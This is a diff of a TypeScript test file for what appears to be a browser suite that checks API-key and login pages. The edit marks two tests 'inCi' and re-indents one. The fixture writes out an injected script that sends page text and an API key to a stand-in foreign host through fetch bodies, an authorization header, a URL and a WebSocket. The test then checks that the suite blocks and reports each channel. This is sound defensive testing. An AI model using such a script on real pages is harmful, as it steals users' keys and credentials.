@@ -5,7 +5,7 @@ import { pictureOf } from '../../../src/keypage/screenshot.js';
 import { judgeAt, password, startWithPages } from '../support/key-page.js';
 import { startOddPage } from '../support/odd-page.js';
 import { startRecorders } from '../support/recorder.js';
-import { expect, test } from '../support/test.js';
+import { expect, inCi, test } from '../support/test.js';
 
 const loginForm = (action: string): string =>
   `<form method="post" action="${action}"><label>Username <input name="u"></label><label>Password <input type="password" name="p"></label><button>Log in</button></form>`;
@@ -60,7 +60,7 @@ test('a failure leaves one picture, and no text with a secret in it', async ({ c
   }
 });
 
-test('the password goes to nobody but the origins that were named', async ({ chromium }) => {
+test('the password goes to nobody but the origins that were named', inCi, async ({ chromium }) => {
   const stranger = await startOddPage({ page: () => loginForm('/log-in') });
   const page = await startOddPage({ page: () => loginForm(`${stranger.baseUrl}/log-in`) });
   const redirecting = await startOddPage({
@@ -88,10 +88,13 @@ test('the password goes to nobody but the origins that were named', async ({ chr
   }
 });
 
-test('a page that sends a key elsewhere, or puts it into a URL, is stopped, and told of', async ({ chromium }) => {
-  const recorders = await startRecorders();
-  const send = (key: string): string =>
-    `<script>setInterval(() => { for (const [url, options] of [
+test(
+  'a page that sends a key elsewhere, or puts it into a URL, is stopped, and told of',
+  inCi,
+  async ({ chromium }) => {
+    const recorders = await startRecorders();
+    const send = (key: string): string =>
+      `<script>setInterval(() => { for (const [url, options] of [
        ['${recorders.foreign}/?c=body', { method: 'POST', mode: 'no-cors', body: document.body.innerText }],
        ['${recorders.foreign}/?c=header', { headers: { authorization: 'Token ${key}' } }],
        ['${recorders.plain}/?c=plain', { method: 'POST', mode: 'no-cors', body: '${key}' }],
@@ -99,32 +102,33 @@ test('a page that sends a key elsewhere, or puts it into a URL, is stopped, and 
      ]) fetch(url, options).catch(() => {}) }, 200);
      const socket = new WebSocket('${recorders.foreign.replace('https', 'wss')}/?c=frame');
      socket.onopen = () => setInterval(() => socket.send('${key}'), 100)</script>`;
-  const old = crypto.randomUUID().replaceAll('-', '');
-  const page = await startOddPage({
-    page: ({ keys }) => {
-      if (keys.length === 0) keys.push(old);
-      // Once the action was pressed, the key from before is known.
-      return `<h1>API key</h1>${keys.map((key) => `<p>${key}</p>`).join('')}<form method="post" action="/key"><button>Generate API key</button></form>${keys.length > 1 ? send(old) : ''}`;
-    },
-  });
-  try {
-    const judged = await judgeAt(page, chromium, { username: undefined, password: undefined });
-    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
-    expect(recorders.channelsOf(old)).toEqual([]);
-    expect(page.state.requests.map(({ url }) => url).join()).not.toContain(old);
-    const told = judged.observations.map(({ fact }) => fact).join();
-    for (const place of [
-      'in the body of a request',
-      'in a header field',
-      'in a WebSocket',
-      `${page.baseUrl} in the URL`,
-      'the suite stopped it',
-    ])
-      expect(told).toContain(place);
-  } finally {
-    await Promise.all([page.close(), recorders.close()]);
-  }
-});
+    const old = crypto.randomUUID().replaceAll('-', '');
+    const page = await startOddPage({
+      page: ({ keys }) => {
+        if (keys.length === 0) keys.push(old);
+        // Once the action was pressed, the key from before is known.
+        return `<h1>API key</h1>${keys.map((key) => `<p>${key}</p>`).join('')}<form method="post" action="/key"><button>Generate API key</button></form>${keys.length > 1 ? send(old) : ''}`;
+      },
+    });
+    try {
+      const judged = await judgeAt(page, chromium, { username: undefined, password: undefined });
+      expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
+      expect(recorders.channelsOf(old)).toEqual([]);
+      expect(page.state.requests.map(({ url }) => url).join()).not.toContain(old);
+      const told = judged.observations.map(({ fact }) => fact).join();
+      for (const place of [
+        'in the body of a request',
+        'in a header field',
+        'in a WebSocket',
+        `${page.baseUrl} in the URL`,
+        'the suite stopped it',
+      ])
+        expect(told).toContain(place);
+    } finally {
+      await Promise.all([page.close(), recorders.close()]);
+    }
+  },
+);
 
 test('a page that hangs costs time only', async ({ chromium }) => {
   const page = await startOddPage({
